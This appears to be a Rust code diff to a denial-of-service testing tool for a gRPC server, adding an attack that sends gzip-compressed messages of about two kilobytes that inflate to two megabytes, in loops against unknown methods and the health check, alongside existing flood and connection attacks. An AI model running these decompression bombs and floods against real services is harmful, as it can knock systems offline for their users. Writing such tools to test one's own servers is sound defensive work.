@@ -91,6 +91,8 @@ enum Attack {
     Pieces,
     /// Calls of a hundred compressed messages, each of a million elements.
     Frames,
+    /// Messages of two kilobytes that inflate to two megabytes, to methods that cost nothing or do not exist.
+    Inflated,
     /// Watches of the health, which nobody reads.
     Watches,
     /// Connections, each closed at once.
@@ -104,13 +106,14 @@ enum Attack {
 }
 
 impl Attack {
-    const ALL: [Self; 11] = [
+    const ALL: [Self; 12] = [
         Self::Heads,
         Self::Idlers,
         Self::Holders,
         Self::Bodies,
         Self::Pieces,
         Self::Frames,
+        Self::Inflated,
         Self::Watches,
         Self::Connections,
         Self::CutOffs,
@@ -126,6 +129,7 @@ impl Attack {
             Self::Bodies => "endless bodies",
             Self::Pieces => "bodies of 65,000 labels",
             Self::Frames => "compressed messages",
+            Self::Inflated => "messages of no method",
             Self::Watches => "watches of the health",
             Self::Connections => "new connections",
             Self::CutOffs => "cut-offs of one user",
@@ -362,11 +366,7 @@ impl Target {
                 Ok(format!("{sent} sent"))
             }
             Attack::Frames => {
-                let mut encoder = GzEncoder::new(vec![], Compression::best());
-                encoder.write_all(&[0x0a, 0].repeat(1 << 20))?;
-                let message = encoder.finish()?;
-                let length = u32::try_from(message.len())?.to_be_bytes();
-                let body = Bytes::from([&[1], length.as_slice(), &message].concat().repeat(100));
+                let body = Bytes::from(compressed(1 << 20)?.repeat(100));
                 let sent = self
                     .repeat(8, &stop, move |target| {
                         let body = body.clone();
@@ -383,6 +383,30 @@ impl Target {
                     })
                     .await;
                 Ok(format!("{} sent", sent * 2))
+            }
+            Attack::Inflated => {
+                let (large, small) = (Bytes::from(compressed((1 << 20) - 8)?), Bytes::from(compressed(1 << 15)?));
+                let sent = self
+                    .repeat(8, &stop, move |target| {
+                        let (large, small) = (large.clone(), small.clone());
+                        async move {
+                            let mut sender = target.connect(ATTACKER).await?;
+                            for n in 0..200 {
+                                let (path, body) = match n % 3 {
+                                    0 => ("/x/.well-known/y", &large),
+                                    1 => ("/x.Service/Method", &large),
+                                    _ => ("/grpc.health.v1.Health/Check", &small),
+                                };
+                                let mut request = call(target.addr, path)?.map(|_| full(body.clone()));
+                                request.headers_mut().insert("grpc-encoding", "gzip".parse()?);
+                                sender.ready().await?;
+                                timeout(PATIENCE, sender.send_request(request)).await??;
+                            }
+                            Ok(true)
+                        }
+                    })
+                    .await;
+                Ok(format!("{} sent", sent * 200))
             }
             Attack::Watches => {
                 let mut held = vec![];
@@ -546,6 +570,15 @@ fn still_open(held: &[Sender]) -> String {
 
 fn full(body: impl Into<Bytes>) -> Body {
     Full::new(body.into()).boxed()
+}
+
+/// A message of this many empty elements, compressed, in its frame.
+fn compressed(elements: usize) -> Outcome<Vec<u8>> {
+    let mut encoder = GzEncoder::new(vec![], Compression::best());
+    encoder.write_all(&[0x0a, 0].repeat(elements))?;
+    let message = encoder.finish()?;
+    let length = u32::try_from(message.len())?.to_be_bytes();
+    Ok([&[1], length.as_slice(), &message].concat())
 }
 
 /// A call that sends only its headers.
